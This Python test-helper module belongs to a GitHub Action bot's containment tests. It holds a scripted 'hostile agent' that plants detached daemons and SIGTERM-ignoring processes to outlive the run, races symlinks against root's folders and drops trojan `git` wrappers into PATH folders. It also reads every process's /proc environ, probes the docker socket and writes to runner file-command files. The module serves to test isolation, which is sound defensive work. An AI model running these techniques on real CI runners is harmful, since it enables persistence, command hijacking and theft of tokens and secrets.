"""The hostile agent of tests/image/test_containment.py and a `podman run` made like the runner's `docker run`.

The agent is a `command` agent run by the action in its container. Its first task plants survivors (a double
forked, setsid daemon with an empty environment; a `nohup`; one that ignores SIGTERM), a swapper that keeps
replacing folders of the work tree by links to root's folders (for the hand-over race), and `git` executables
where the bot might look for one. Its second task checks from the inside what all that got it — are the
survivors alive, who owns root's folders now, what `/proc/*/environ` shows, can it reach the docker socket and
the runner's files — and writes it to `containment-results.json`, which the bot commits to the PR branch.
Each task ticks its own box, so the run completes.
"""

from __future__ import annotations

import json
import os
import subprocess
import time
from pathlib import Path

from symphony_bot.action.outputs import parse_output_file

CONTAINER_WORKSPACE = "/github/workspace"
CONTAINER_WORKFLOW = "/github/workflow"
CONTAINER_FILE_COMMANDS = "/github/file_commands"
CONTAINER_HOME = "/github/home"
CONTAINER_DOCKER_SOCKET = "/var/run/docker.sock"
RESULTS = "containment-results.json"
SOCKET_GROUP = 998  # the host's docker group, as on GitHub's runners
RUNNER_UID = 1001  # the runner's user owns its files on the host
# Docker's default capabilities that podman's default set lacks (moby: oci/caps/defaults.go).
DOCKER_ONLY_CAPS = "AUDIT_WRITE,MKNOD,NET_RAW"

ATTACK = r'''
import errno, json, os, signal, socket, subprocess, sys, time
repo = os.environ["SYMPHONY_REPO"]
def tick():
    doc, line = os.environ["SYMPHONY_DOC"], int(os.environ["SYMPHONY_TASK_LINE"])
    lines = open(doc).read().split("\n")
    lines[line - 1] = lines[line - 1].replace("- [ ]", "- [x]", 1)
    open(doc, "w").write("\n".join(lines))
def attempt(action):
    try:
        result = action()
        return "ok" if result is None else result
    except OSError as error:
        return errno.errorcode.get(error.errno, str(error.errno))
def daemon(code):
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            os.execve(sys.executable, [sys.executable, "-c", code], {})
        os._exit(0)
SLEEP = "import os, time; open('{name}', 'w').write(str(os.getpid())); time.sleep(3600)"
SWAP = """
import os, time
os.chdir({repo!r})
open("swapper.pid", "w").write(str(os.getpid()))
while True:
    for i in range(10):
        folder = f"swap/d{{i}}"
        try:
            os.rename(folder, folder + ".real"); os.symlink("/usr/local/bin", folder)
            os.unlink(folder); os.rename(folder + ".real", folder)
        except OSError:
            pass
"""
PLANTED = "#!/bin/sh\necho planted > " + repo + "/PLANTED-GIT-RAN\nexec /usr/bin/git \"$@\"\n"
if not os.path.exists(os.path.join(repo, "survivors.json")):
    for i in range(10):
        os.makedirs(f"swap/d{i}", exist_ok=True)
        for n in range(20):
            open(f"swap/d{i}/f{n}", "w").write("x")
    daemon(SLEEP.format(name="daemon.pid"))
    daemon(SWAP.format(repo=repo))
    subprocess.Popen(["nohup", sys.executable, "-c", SLEEP.format(name="nohup.pid")], start_new_session=True,
                     stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    subprocess.Popen([sys.executable, "-c", "import signal; signal.signal(signal.SIGTERM, signal.SIG_IGN); "
                      + SLEEP.format(name="stubborn.pid")])
    planted = {}
    for folder in ("bin", "/usr/local/bin", "/opt/symphony/bin", "/usr/bin"):
        def plant(folder=folder):
            os.makedirs(folder, exist_ok=True)
            with open(os.path.join(folder, "git"), "w") as handle:
                handle.write(PLANTED)
            os.chmod(os.path.join(folder, "git"), 0o755)
        planted[folder] = attempt(plant)
    deadline = time.monotonic() + 60
    names = ("daemon.pid", "swapper.pid", "nohup.pid", "stubborn.pid")
    while not all(os.path.exists(n) and open(n).read() for n in names) and time.monotonic() < deadline:
        time.sleep(0.05)
    pids = {n: int(open(n).read()) for n in names}
    json.dump({"pids": pids, "planted": planted}, open("survivors.json", "w"))
    tick()
    print("planted survivors")
    sys.exit(0)
def alive(pid):
    try:
        return open(f"/proc/{pid}/stat").read().rsplit(")", 1)[1].split()[0] not in ("Z", "X")
    except OSError:
        return False
planted = json.load(open("survivors.json"))
results = {"uid": os.getuid(), "groups": os.getgroups(), "planted": planted["planted"]}
results["survivors alive"] = {name: alive(pid) for name, pid in planted["pids"].items()}
results["owners"] = {path: os.stat(path).st_uid for path in ("/usr/local/bin", "/usr/local/bin/symphony-action-post")}
environ = {}
for entry in os.listdir("/proc"):
    if entry.isdigit():
        def read(entry=entry):
            return "read:" + open(f"/proc/{entry}/environ", "rb").read().decode("utf-8", "replace")
        environ[entry] = attempt(read)
results["proc environ"] = environ
def connect():
    with socket.socket(socket.AF_UNIX) as client:
        client.connect("/var/run/docker.sock")
results["docker socket"] = attempt(connect)
results["read event"] = attempt(lambda: open("/github/workflow/event.json").read() and None)
results["list file commands"] = attempt(lambda: os.listdir("/github/file_commands") and None)
results["write file commands"] = attempt(lambda: open("/github/file_commands/set_env", "a").write("X=1\n") and None)
results["write workspace"] = attempt(lambda: open("/github/workspace/planted.txt", "w").write("x") and None)
json.dump(results, open("containment-results.json", "w"), indent=1)
tick()
print("checked")
'''


def runner_mounts(root: Path, workspace: Path) -> tuple[list[str], Path]:
    """The runner's mounts for a container action, as host folders under `root`; returns podman -v arguments
    and the folder of the files the runner's commands use (event, output, summary, state)."""
    workflow = root / "_github_workflow"
    commands = root / "_runner_file_commands"
    home = root / "_github_home"
    for folder in (workflow, commands, home):
        folder.mkdir(exist_ok=True)
    for path, text in ((commands / "set_env", ""), (commands / "add_path", "")):
        path.write_text(text)
    for path in (workflow, commands, home, *commands.iterdir()):
        os.chown(path, RUNNER_UID, RUNNER_UID)  # as on the host: the runner's user, its default umask
    mounts = [
        f"{workspace}:{CONTAINER_WORKSPACE}",
        f"{home}:{CONTAINER_HOME}",
        f"{workflow}:{CONTAINER_WORKFLOW}",
        f"{commands}:{CONTAINER_FILE_COMMANDS}",
    ]
    return [argument for mount in mounts for argument in ("-v", mount)], workflow


def podman_run(
    image: str, mounts: list[str], environ: dict[str, str], workflow: Path, *, timeout: float = 1200
) -> tuple[subprocess.CompletedProcess[str], dict[str, str], float]:
    """`docker run` as the runner does it: root, Docker's default capabilities, the default seccomp profile,
    no --privileged, no --init; the runner's mounts and the host's network (where the sandbox listens)."""
    command = ["podman", "run", "--rm", "--network", "host", "--cap-add", DOCKER_ONLY_CAPS]
    command += ["--workdir", CONTAINER_WORKSPACE, *mounts]
    for key, value in environ.items():
        command += ["-e", f"{key}={value}"]
    started = time.monotonic()
    result = subprocess.run([*command, image], capture_output=True, text=True, timeout=timeout, check=False)
    return result, parse_output_file((workflow / "output").read_text()), time.monotonic() - started


def write_event(workflow: Path, payload: dict) -> None:
    (workflow / "event.json").write_text(json.dumps(payload))
    for name in ("output", "summary.md", "state"):
        (workflow / name).write_text("")


def label_event_environment(api_url: str, graphql_url: str, token: str) -> dict[str, str]:
    """The variables the runner gives a container action for an `issues` event (OWNER/REPO, the runner's mounts)."""
    from tests.action_helpers import OWNER, REPO

    return {
        "GITHUB_EVENT_NAME": "issues",
        "GITHUB_EVENT_PATH": f"{CONTAINER_WORKFLOW}/event.json",
        "GITHUB_OUTPUT": f"{CONTAINER_WORKFLOW}/output",
        "GITHUB_STEP_SUMMARY": f"{CONTAINER_WORKFLOW}/summary.md",
        "GITHUB_STATE": f"{CONTAINER_WORKFLOW}/state",
        "GITHUB_REPOSITORY": f"{OWNER}/{REPO}",
        "GITHUB_WORKSPACE": CONTAINER_WORKSPACE,
        "GITHUB_API_URL": api_url,
        "GITHUB_GRAPHQL_URL": graphql_url,
        "GITHUB_ACTIONS": "true",
        "HOME": CONTAINER_HOME,
        "INPUT_GITHUB-TOKEN": token,
    }
